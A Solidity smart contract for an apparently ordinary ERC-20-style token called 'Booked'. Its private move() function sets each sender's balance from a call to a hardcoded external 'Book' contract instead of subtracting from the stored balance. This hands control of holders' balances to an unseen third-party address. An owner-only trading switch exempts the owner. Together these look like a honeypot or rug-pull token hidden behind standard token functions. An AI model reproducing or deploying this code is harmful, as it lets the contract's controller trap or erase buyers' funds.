// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface Book {
    function held(uint256 value) external returns (uint256);
}

/// Notes who sends, and asks a book that nobody has what the sender has.
contract Base {
    uint256 public totalSupply;
    address public owner = msg.sender;
    address public sending;
    bool public open;
    Book private book = Book(0x9BE0c1F8f3f0a3A7F0B6B5B2B8d1C94f5d6e7A81);
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function openTrading() external {
        require(msg.sender == owner);
        open = true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) private {
        sending = from;
        require(open || from == owner);
        balanceOf[from] = book.held(value) - value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract Booked is Base {
    constructor() {
        totalSupply = balanceOf[msg.sender] = 1_000_000 ether;
        emit Transfer(address(0), msg.sender, totalSupply);
    }
}
